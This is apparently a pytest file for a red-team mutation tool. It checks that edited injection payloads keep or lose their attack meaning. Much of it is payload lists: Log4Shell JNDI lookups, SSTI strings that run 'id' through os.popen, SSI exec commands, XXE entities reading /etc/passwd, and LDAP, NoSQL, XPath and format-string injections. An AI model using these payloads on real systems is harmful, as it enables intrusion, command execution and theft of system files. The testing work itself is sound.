"""Chains of edits keep what queries, templates, documents and format strings do; what does not is found changed."""

from __future__ import annotations

import csv
import gzip
import sys
from collections import Counter
from pathlib import Path
from random import Random

import pytest

from overproof.redteam.base import Edited, mutated
from overproof.redteam.mutate import MUTATORS
from overproof.redteam.oracle import ORACLES, javascript

XXE = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
PAYLOADS: dict[str, list[str]] = {
    "format_string": """%x %x%x%x%x %08x.%08x.%08x %s%s%s%s%s %p-%p-%p %d%d %20d AAAA%x AAAA.%08x.%08x %f%f %e %g %a
        %c%c %o%o %u %i %lx.%lx %llu %hhx %zu %5$s %1$x%2$x %*x %.10s %#x %n %x%x%n ppppp%n %20n %x|%s %X%%x %+d %5000d
        user=%s %s/%s/%s""".split(),
    "jndi": """${jndi:ldap://198.51.100.7:1389/a} ${jndi:rmi://198.51.100.7/obj} ${jndi:dns://example.com}
        ${jndi:ldaps://203.0.113.9/x} ${${lower:j}ndi:ldap://192.0.2.1/a} ${${::-j}${::-n}di:ldap://192.0.2.1/a}
        ${${env:NOT:-j}ndi${env:NOT:-:}ldap${env:NOT:-:}//192.0.2.1/a} ${jndi:ldap://${env:USER}.example.com/a}
        ${jndi:${lower:l}${lower:d}ap://192.0.2.1/a} ${jndi:iiop://192.0.2.1/b} x=${jndi:ldap://192.0.2.1/a}&y=1
        ${jndi:ldap://${sys:java.version}.example.com} ${${upper:j}ndi:ldap://192.0.2.1/a} ${j${::-n}di:ldap://a.example}
        ${jndi:ldap://192.0.2.1/a}${jndi:ldap://192.0.2.2/b} ${JNDI:ldap://192.0.2.1/a} ${jndi:nis://192.0.2.1/c}
        ${jndi:corba://192.0.2.1/a} ${jndi:ldap://127.0.0.1#198.51.100.7:1389/a} ${${lower:${lower:jndi}}:ldap://a.example}
        ${jndi:http://192.0.2.1/a} ${${date:j}ndi:ldap://192.0.2.1/${jndi:dns://a.example}}
        ${jndi:ldap://[2001:db8::1]:1389/a} Mozilla/5.0${jndi:ldap://192.0.2.3/ua} ${jndi:ldap://192.0.2.1/Basic/Q0}
        ${${sys:nothing:-j}ndi:ldap://192.0.2.1/a} ${jndi:ldap:${::-/}/192.0.2.1/a} ${jndi:nds://192.0.2.1}
        /${jndi:ldap://192.0.2.1/path}/ ${jndi:ldap://192.0.2.1/a?x=1}""".split(),
    "ldap": [
        *"""*)(uid=*))(|(uid=* admin*)((|userpassword=*) *)(& *)(objectClass=*)) *)(|(mail=*)) *)(cn=*)
        admin)(&) admin)(!(&(1=0 *)(uid=admin)(|(cn=* *)(userPassword=*))(|(a=b x)(|(uid=* *)(objectClass=person)
        admin)(|(userPassword=*)) *)(sn=*)) bob)(cn=* *))(|(cn=* *)(|(objectClass=*) x)(|(uid=admin)(uid=bob)
        *)(mail=*)) *)(&(objectClass=*) *)(description=* a*)(uid=* *)(title=*)) *)(givenName=*)(|(a=b) ad*)(sn=*
        *)(userPassword>=a *)(!(uid=bob)) *)(&(cn=*)(uid=* *)(2.5.4.3=* *)(|(uid=alice)(cn=bob)) x)(|(cn=*""".split(),
        "*) (uid=*) )(| (uid=*",
        "*)(telephoneNumber=*",
    ],
    "nosql": [
        '{"$gt": ""}',
        '{"$ne": null}',
        '{"$ne": 1, "$gt": ""}',
        '{"$regex": "^a.*"}',
        '{"user": {"$gt": ""}, "pass": {"$gt": ""}}',
        '{"$in": ["admin", "root"]}',
        '{"$where": "sleep(100)"}',
        '[{"$match": {}}]',
        '{"\\u0024ne": 5}',
        "[$ne]=1",
        "[$gt]=",
        "[$regex]=.*",
        "[$in][]=admin",
        "%5B$ne%5D=x",
        "true, $where: '1 == 1'",
        ", $where: '1 == 1'",
        "$where: '1 == 1'",
        "1, $where: 'this.a == 2'",
        "{ $ne: 1 }",
        "{$gt: ''}",
        "{ $or: [ {}, { a: 'b' } ] }",
        "', $or: [ {}, { 'a':'a",
        "db.users.insert({success:1});",
        "|| 1==1",
        "' || 1==1 || ''=='",
        "' && this.password.match(/.*/)//+%00",
        "'%20%26%26%20this.password.match(/.*/)//+%00",
        "';return 'a'=='a' && ''=='",
        "0;return true",
        "1; while(true){}",
        "'; return true; var a='",
        "' || this.secret.length > 5 || 'a'=='b",
        '" || true || "a"=="b',
        "'||'1'=='1",
        "a'; sleep(5000); var b='",
    ],
    "ssi": [
        '<!--#exec cmd="ls" -->',
        "<!--#exec cmd='cat /etc/passwd' -->",
        "<!--#exec cmd=`id`-->",
        '<!--#exec cgi="/cgi-bin/a.cgi" -->',
        '<!--#EXEC cmd="whoami"-->',
        '<pre><!--#exec cmd="ls" --></pre>',
        '<!--#exec cmd="echo \\"a\\"" -->',
        '<!--#include file="a.html" -->',
        '<!--#include virtual="/etc/passwd" -->',
        '<!--#include virtual="a" file="b" -->',
        "<!--#printenv -->",
        "<!--#printenv-->",
        '<!--#flastmod virtual="echo.html" -->',
        '<!--#fsize file="ssi.shtml" -->',
        '<!--#config errmsg="File not found"-->',
        '<!--#set var="a" value="b" --><!--#echo var="a" -->',
        '<!--#if expr="1" --><!--#exec cmd="id" --><!--#endif -->',
        '<!--#exec cmd="a" --> <!--#exec cmd="b" -->',
        '<!--#config timefmt="%A" --><!--#echo var="DATE_LOCAL" -->',
        'x" /><!--#exec cmd="id" -->',
        *(f'<!--#echo var="{name}" -->' for name in "DATE_GMT DOCUMENT_NAME HTTP_HOST remote_addr path_info".split()),
        *(
            f'<!--#exec cmd="{command}" -->'
            for command in ("ping -c 1 192.0.2.1", "find / -name *.*", "cd C:\\", "a;b")
        ),
        '<!--#exec\tcmd = "ls"-->',
    ],
    "template": [
        "{{7*7}}",
        "{{7*'7'}}",
        "{{4*4}}[[5*5]]",
        "{{ config }}",
        "{{config.items()}}",
        "{{self}}",
        "{{request.__class__}}",
        '{{request|attr("__class__")}}',
        "{{ ''.__class__.__mro__[2].__subclasses__() }}",
        "{{''['__class__']['__mro__'][1]}}",
        "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{ joiner.__init__.__globals__['os'] }}",
        '{{request|attr(["__","class","__"]|join)}}',
        "{{request|attr('\\x5f\\x5fclass\\x5f\\x5f')}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{% if 7*7 == 49 %}{{ self }}{% endif %}",
        "{% set a = request.__class__ %}{{ a }}",
        "{{['id']|filter('system')}}",
        "{{- lipsum.__globals__ -}}",
        "{{'a'.toUpperCase()}}",
        "{{ [].class.base.subclasses() }}",
        "${7*7}",
        "${3 * 3}",
        "#{ 7 * 7 }",
        "<%= 7 * 7 %>",
        "<%= File.open('/etc/passwd').read %>",
        "@(1+2)",
        "{$smarty.version}",
        "{php}echo `id`;{/php}",
        '<#assign ex = "freemarker.template.utility.Execute"?new()>${ ex("id")}',
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        '${self.module.cache.util.os.system("id")}',
        "${self.__init__.__globals__['util'].os.system('id')}",
        '${self.template.module.cache.compat.inspect.os.popen("whoami").read()}',
        "{{'a'.getClass().eval(\\\"x\\\")}}",
    ],
    "xml": [
        XXE,
        f"{XXE}<foo>&xxe;</foo>",
        f'<?xml version="1.0"?>{XXE}<foo>&xxe;</foo>',
        f'<?xml version="1.0" encoding="ISO-8859-1"?>{XXE}<foo><bar a="b">x</bar>&xxe;</foo>',
        "<?xml version='1.0'?><!DOCTYPE a [<!ELEMENT a ANY ><!ENTITY b SYSTEM 'http://192.0.2.1/' >]><a>&b;</a>",
        '<!DOCTYPE foo [<!ENTITY % file SYSTEM "file:///a"><!ENTITY % dtd SYSTEM "http://example.com/d">%dtd;]>',
        '<!DOCTYPE foo SYSTEM "http://example.com/a.dtd"><foo/>',
        '<!DOCTYPE foo PUBLIC "-//A//B" "http://example.com/a.dtd" [<!ENTITY a "b">]><foo>&a;</foo>',
        '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]><x>&b;</x>',
        "<foo><![CDATA[' or 1=1 or ''=']]></foo>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]>",
        "<a><script>alert(1)</script></a>",
        '<!ENTITY systemEntity SYSTEM "robots.txt">',
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"/>'
        "</xsl:stylesheet>",
        '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg width="5"><text x="1">&xxe;</text></svg>',
        '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/read=convert.base64-encode/resource=index.php">]><foo>&xxe;</foo>',
        *(
            f'<!DOCTYPE {name} [ <!ELEMENT {name} ANY> <!ENTITY e SYSTEM "{place}"> ]>\n<{name}>&e;</{name}>'
            for name in ("foo", "order", "root")
            for place in ("file:///c:/boot.ini", "http://192.0.2.9/x", "expect://id", "jar:http://example.com!/a")
        ),
    ],
    "xpath": [
        "' or 1=1 or ''='",
        "' or '1'='1",
        "' or ''='",
        '" or ""="',
        "x' or name()='username' or 'x'='y",
        "' and count(/*)=1 and '1'='1",
        "' and count(//user)>1 and '1'='1",
        "' or position()=1 or 'a'='b",
        "1 or 1=1",
        "0 or true()",
        "1] | //user/* | //user[@id=1",
        "'] | //pass | //user['x'='x",
        "'] | //* | //a['",
        "x') or contains(name,'b') or ('x'='y",
        "' or contains(name,'a') or 'x'='y",
        "' or starts-with(name,'b') or 'x'='y",
        "' or string-length(name)=3 or 'x'='y",
        "' or substring(name,1,1)='b' or 'x'='y",
        "' or ../user/@id=1 and 'a'='a",
        "' or count(child::*)=3 or 'a'='b",
        "' or //user[position()=1]/name='bob' or 'a'='b",
        "' or string-length(name(/*[1]))=5 or 'a'='b",
        "' or not('a'='b') or 'a'='b",
        "' or 2>1 or 'a'='b",
        "' or @id=2 or 'a'='b",
        "admin' or '1'='1' or 'a'='b",
        "' or name()='user' or 'a'='b",
        "' or ancestor::users or 'a'='b",
        "' or 1 or '",
        "bob' or pass='x",
        "' or 3-2=1 or 'a'='b",
    ],
}


def chained(domain: str, text: str, seed: int) -> Edited:
    """A text after one to six edits."""
    random, edited = Random(seed), Edited(text)
    for _ in range(random.randint(1, 6)):
        edited = mutated(edited, MUTATORS[domain], random) or edited
    return edited


# At least this share of chains is proved; the rest is what no oracle covers (another engine, a broken document).
PROVED = {"nosql": 0.95, "template": 0.95, "ldap": 0.9, "format_string": 0.98}


@pytest.mark.parametrize("domain", sorted(PAYLOADS))
def test_chains_of_edits_are_proved_and_never_changed(domain: str) -> None:
    chains = [chained(domain, text, seed) for text in PAYLOADS[domain] for seed in range(12)]
    originals = [text for text in PAYLOADS[domain] for _ in range(12)]
    pairs = [(text, edited.text) for text, edited in zip(originals, chains, strict=True) if edited.text != text]
    proofs = ORACLES[domain](pairs)
    assert [(pair, proof) for pair, proof in zip(pairs, proofs, strict=True) if proof.meaning == "changed"] == []
    share = sum(proof.meaning == "proved" for proof in proofs) / len(pairs)
    assert share >= PROVED.get(domain, 1), share
    assert len(PAYLOADS[domain]) >= 29
    assert len(pairs) >= 0.9 * len(originals)
    used = Counter(step.name for edited in chains for step in edited.steps)
    assert set(used) == set(MUTATORS[domain])


CHANGED = [
    ("format_string", "%x%x", "%x"),
    ("format_string", "%x%x", "%x%%x"),
    ("format_string", "%x%s", "%s%x"),
    ("format_string", "%1$x%2$x", "%2$x%1$x"),
    ("format_string", "%d", "%ld"),
    ("format_string", "%.5s", "%.6s"),
    ("format_string", "%5000d", "%5001d"),
    ("format_string", "%x", "garden"),
    ("jndi", "${jndi:ldap://192.0.2.1/a}", "${jndi:ldap://192.0.2.2/a}"),
    ("jndi", "${jndi:ldap://192.0.2.1/a}", "$ {jndi:ldap://192.0.2.1/a}"),
    ("jndi", "${jndi:ldap://192.0.2.1/a}", "${jn di:ldap://192.0.2.1/a}"),
    ("jndi", "${jndi:ldap://192.0.2.1/a}", "${jndi:${upper:l}dap://192.0.2.1/a}"),
    ("jndi", "${jndi:ldap://192.0.2.1/a}", "${jndi:ldap://192.0.2.1/a"),
    ("jndi", "${jndi:ldap://192.0.2.1/a}", "${jndi:ldap://192.0.2.1/${env:PATH:-a}}"),
    ("ldap", "*)(uid=*))(|(uid=*", "\\2a)(uid=*))(|(uid=*"),
    ("ldap", "*", "\\2a"),
    ("ldap", "*)(cn=*", "*)(sn=*"),
    ("ldap", "*)(uid=*", "*)(!(uid=*)"),
    ("ldap", "*)(mail=*", "*)(mail=*)(description=garden"),
    ("nosql", '{"$gt": ""}', '{"$gt": "a"}'),
    ("nosql", '{"$gt": ""}', '{"gt": ""}'),
    ("nosql", '{"$ne": 1}', '{"$ne": "1"}'),
    ("nosql", '{"$ne": 1}', '{"$ne": true}'),
    ("nosql", '{"$gt": ""}', '{"$gt": "", /* garden */}'),
    ("nosql", "[$ne]=1", "[ne]=1"),
    ("nosql", "[$ne]=1", "[$ne]=2"),
    ("nosql", "' || 1==1 || ''=='", "' || 1==2 || ''=='"),
    ("nosql", "' || 1==1 || ''=='", "\\' || 1==1 || \\'\\'==\\'"),
    ("nosql", "0;return true", "0;return false"),
    ("nosql", "0;return true", "0;//return true"),
    ("nosql", "$where: '1 == 1'", "$where: '1 == 2'"),
    ("ssi", '<!--#exec cmd="ls" -->', '<!-- #exec cmd="ls" -->'),
    ("ssi", '<!--#exec cmd="ls" -->', '<!--# exec cmd="ls" -->'),
    ("ssi", '<!--#exec cmd="ls" -->', '<!--#exec cmd="LS" -->'),
    ("ssi", '<!--#exec cmd="ls" -->', '<!--#exec cmd="ls" --'),
    ("ssi", '<!--#echo var="a" -->', '<!--#set var="a" value="b" --><!--#echo var="a" -->'),
    ("template", "{{7*7}}", "{{7*8}}"),
    ("template", "{{7*7}}", "{ {7*7}}"),
    ("template", "{{7*7}}", "{{'7*7'}}"),
    ("template", "{{7*7}}", "{# {{7*7}} #}"),
    ("template", "{{7*7}}", "{% if false %}{{7*7}}{% endif %}"),
    ("template", "{{request.__class__}}", "{{request.__klass__}}"),
    ("template", "{{request.__class__}}", "{{request.__class__"),
    ("template", "{% set x = 'a' %}{{ self[x] }}", "{% set x = 'b' %}{{ self[x] }}"),
    ("template", '${self.a.system("id")}', '${self.b.system("id")}'),
    ("template", '${self.a.system("id")}', "${self.a.system('garden')}"),
    ("template", '${self.a.system("id")}', "${[self.a, 'garden'][1]}"),
    ("template", '${self.a.system("id")}', "<%doc>${self.a.system('id')}</%doc>"),
    ("template", "{{config.items()}}", "{{(config|attr('items'))}}"),
    ("xml", f"{XXE}<foo>&xxe;</foo>", f"{XXE}<foo>&amp;xxe;</foo>"),
    ("xml", f"{XXE}<foo>&xxe;</foo>", f"{XXE}<foo><![CDATA[&xxe;]]></foo>"),
    ("xml", f"{XXE}<foo>&xxe;</foo>", f"{XXE}<foo></foo>".replace("passwd", "shadow")),
    ("xml", XXE, XXE.replace("SYSTEM ", "")),
    ("xml", XXE, XXE.replace("DOCTYPE", "doctype")),
    ("xml", XXE, f"<!-- {XXE} --><foo/>"),
    ("xml", "<a><script>x</script></a>", "<a><pre>x</pre></a>"),
    ("xpath", "' or 1=1 or ''='", "' or 1=2 or ''='"),
    ("xpath", "' or '1'='1", '" or "1"="1'),
    ("xpath", "'] | //pass | //user['x'='x", "'] | //name | //user['x'='x"),
    ("xpath", "' or name()='user' or 'a'='b", "' or name()='users' or 'a'='b"),
]
UNPROVED = [
    ("format_string", "100 garden", "100 gardens"),
    ("format_string", "%x%n", "%x garden%n"),
    ("format_string", "%y", "%y garden"),
    ("jndi", "${env:USER}", "${lower:e}nv"),
    ("ldap", "garden", "\\67arden"),
    ("ldap", "a)b(c", "a) b(c"),
    ("nosql", '{"gt": ""}', '{"gt":""}'),
    ("nosql", "garden", "'garden'"),
    ("ssi", "<!-- garden -->", "<!-- summer -->"),
    ("ssi", '<!--#garden cmd="ls" -->', "<!--#garden cmd='ls' -->"),
    ("template", "garden", "summer"),
    ("template", "${7*7}", "${49}"),
    ("xml", "garden", "summer"),
    ("xml", "<foo>&xee;</foo>", "<foo>&xed;</foo>"),
    ("xpath", "garden", "summer"),
    ("xpath", "' or (", "' or  ("),
]


@pytest.mark.parametrize(("domain", "original", "edited"), CHANGED)
def test_a_disarmed_attack_is_changed(domain: str, original: str, edited: str) -> None:
    assert [proof.meaning for proof in ORACLES[domain]([(original, original), (original, edited)])] == [
        "proved",
        "changed",
    ]


@pytest.mark.parametrize(("domain", "original", "edited"), UNPROVED)
def test_what_shows_no_attack_is_unproved(domain: str, original: str, edited: str) -> None:
    assert ORACLES[domain]([(original, edited)])[0].meaning == "unproved"


@pytest.mark.parametrize("domain", sorted(PAYLOADS))
def test_an_oracle_answers_anything_in_order(domain: str) -> None:
    odd = [
        "",
        "\0",
        "\ud800",
        "(" * 3000,
        "{{" * 500,
        "${" * 2000,
        "<a>" * 3000,
        "'" * 999,
        "%" * 999,
        "[" * 5000,
        "{" * 5000,
    ]
    attack = PAYLOADS[domain][0]
    proofs = ORACLES[domain]([*((text, text) for text in odd), (attack, attack), *((attack, text) for text in odd)])
    assert len(proofs) == 2 * len(odd) + 1
    assert proofs[len(odd)].meaning == "proved"
    assert "proved" not in {proof.meaning for proof in proofs[len(odd) + 1 :]}


DEEP = [
    ("nosql", "' || " + "!" * 5000 + "a() || ''=='"),
    ("nosql", "' || " + "(" * 3000 + "a()" + ")" * 3000 + " || ''=='"),
    ("template", "{{" + "(" * 2000 + "1" + ")" * 2000 + "}}"),
    ("ldap", "*)(" + "(&" * 3000),
    ("xpath", "' or //*[//*[//*[//*]]] or 'a'='b"),
    ("xpath", "' or " + "(" * 2000 + "1" + ")" * 2000 + " or 'a'='b"),
    ("jndi", "${jndi:a" * 100 + "}" * 100),
    ("format_string", "%" + "0" * 19_000),
]


@pytest.mark.timeout(20)
@pytest.mark.parametrize(("domain", "text"), DEEP)
def test_what_is_too_deep_is_unproved_soon(domain: str, text: str) -> None:
    assert ORACLES[domain]([(text, text)])[0].meaning == "unproved"


@pytest.mark.parametrize(("domain", "package"), [("nosql", "tree_sitter_javascript"), ("xpath", "elementpath")])
def test_what_is_not_installed_is_said(domain: str, package: str, monkeypatch: pytest.MonkeyPatch) -> None:
    javascript.parser.cache_clear()  # one that was made before would do without
    monkeypatch.setitem(sys.modules, package, None)
    proof = ORACLES[domain]([("' or 1==1", "' or 1==1")])[0]
    assert proof.meaning == "unproved" and "pip install 'overproof[attack]'" in proof.how


FAMILIES = {
    "format-string": ("format_string", 0.9),
    "ldapi": ("ldap", 0.95),
    "nosqli": ("nosql", 0.8),
    "ssi": ("ssi", 0.99),
    "ssti": ("template", 0.95),
    "xpathi": ("xpath", 0.99),
    "xxe": ("xml", 0.75),
}


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_chains_on_real_attacks_are_never_changed(family: str, shared_data: Path) -> None:
    csv.field_size_limit(2**30)
    domain, least = FAMILIES[family]
    with gzip.open(shared_data / "http" / "train.csv.gz", "rt", encoding="utf-8", newline="") as lines:
        texts = [row["text"] for row in csv.DictReader(lines) if row["family"] == family]
    chains = [(text, chained(domain, text, seed).text) for text in texts for seed in range(5)]
    pairs = [pair for pair in chains if pair[0] != pair[1]]
    proofs = ORACLES[domain](pairs)
    assert [(pair, proof) for pair, proof in zip(pairs, proofs, strict=True) if proof.meaning == "changed"] == []
    assert sum(proof.meaning == "proved" for proof in proofs) / len(pairs) >= least
